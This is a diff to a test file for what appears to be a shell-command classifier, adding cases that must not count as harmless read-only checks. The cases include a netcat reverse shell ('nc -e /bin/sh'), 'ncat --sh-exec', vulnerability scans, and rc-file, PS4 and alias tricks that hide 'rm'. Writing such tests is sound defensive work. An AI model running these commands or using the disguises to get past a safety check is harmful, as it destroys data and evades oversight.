@@ -92,10 +92,39 @@ describe('what only looks like reading', () => {
     "node -e \"require('fs').rmSync('x')\"",
     'logger hello',
     'xargs rm',
+    "PSQLRC=./x psql -c 'SELECT 1'",
+    "export PSQLRC=./x; psql -c 'SELECT 1'",
+    'bash --rcfile ./x -ic true',
+    'bash --init-file ./x -i -c true',
+    "PS4='$(rm x)'; set -x; echo",
+    "mapfile -C 'rm x' -c 1 a < f",
+    'nc -e /bin/sh host 1',
+    'ncat --sh-exec "rm x" host 1',
+    'nmap --script vuln host',
+    'curl --libcurl out.c http://host/',
+    "curl -w '%output{out}x' http://host/",
+    "curl -H 'X-HTTP-Method-Override: DELETE' http://host/",
+    "rsync -n -e './x' host:a b",
+    "rsync -n --rsync-path='rm x; rsync' host:a b",
+    'awk \'@load "x"; {print}\' f',
+    'alias ls=rm',
+    "alias ls='rm -rf x'",
     'kubectl config use-context prod',
     'rm x\r\nls',
   ])('is no check: %s', (text) => {
     expect(intentOf(text)).not.toBe('check');
+  });
+
+  test.each([
+    "PS4='+ '; set -x; ls",
+    'PSQLRC=/dev/null psql -c "SELECT 1"',
+    "alias rm='rm -i' k=kubectl ll='ls -l'",
+    'mapfile -t lines < f',
+    "rsync -an -e 'ssh -p 22' host:a b",
+    'nc -zv host 22',
+    "curl -H 'Accept: x' -w '%{http_code}' http://host/",
+  ])('is a check: %s', (text) => {
+    expect(intentOf(text)).toBe('check');
   });
 
   test.each([
